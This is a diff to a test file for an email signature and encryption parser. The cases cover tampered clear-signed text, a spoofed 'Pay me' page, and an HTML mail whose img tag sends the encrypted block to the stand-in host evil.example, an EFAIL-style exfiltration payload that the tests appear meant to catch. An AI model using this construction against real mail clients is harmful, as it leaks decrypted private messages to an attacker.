@@ -107,7 +107,9 @@ def texts(s):
          lambda r: r["signature"] in ("good", "partial") and r["text"] == WORDS and len(r["layers"]) == 1),
         ("clear-signed, with something else in the page", parts(PLAIN + "\n" + signed, page(signed.replace("192", "193")), kind="alternative"),
          lambda r: partly (r) and r["text"] == WORDS and len(r["layers"]) == 1),
-        ("clear-signed in a page alone", head() + page(signed), lambda r: summary(r) == ("none", "none") and not r["layers"] and r["problems"]),
+        ("clear-signed in a page alone", head() + page(signed), good),
+        ("the same, changed: nobody can say by whom", head() + page(signed.replace("192", "193")), lambda r: summary(r) == ("none", "none")
+         and not r["layers"] and r["problems"]),
         ("a page that says something else", parts(PLAIN + "\n" + block, page("Pay me\n" + block), kind="alternative"),
          lambda r: r["encryption"] == "partial" and "Pay" not in r["text"]),
         ("a page that leads out", mail('<img src="http://evil.example/?\n' + block + '">\n', "Content-Type: text/html\n"),
